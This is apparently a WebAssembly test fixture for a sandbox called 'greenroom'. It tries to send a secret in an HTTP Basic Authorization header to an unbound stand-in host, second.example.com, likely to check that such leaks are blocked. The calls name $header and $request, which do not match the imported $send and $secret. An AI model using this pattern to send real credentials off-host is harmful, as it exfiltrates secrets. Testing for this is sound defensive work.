;; Sends a secret in credentials of HTTP Basic authentication to a host that it is not bound to.
;; grants: http, secrets
;; with: http
(import "greenroom:action/http@1.3.0" "send" (func $send (param i32 i32 i32)))
(import "greenroom:action/secrets@1.3.0" "get" (func $secret (param i32 i32 i32)))
(data (i32.const 4096) "http://second.example.com:‹PORT›/basic")
(data (i32.const 5000) "Authorization")
;; ada:__greenroom_secret_crm__
(data (i32.const 5100) "Basic YWRhOl9fZ3JlZW5yb29tX3NlY3JldF9jcm1fXw==")
;; run:
(call $header (i32.const 5000) (i32.const 5100))
(call $request (i32.const 0) (i32.const 4096) (i32.const 0))
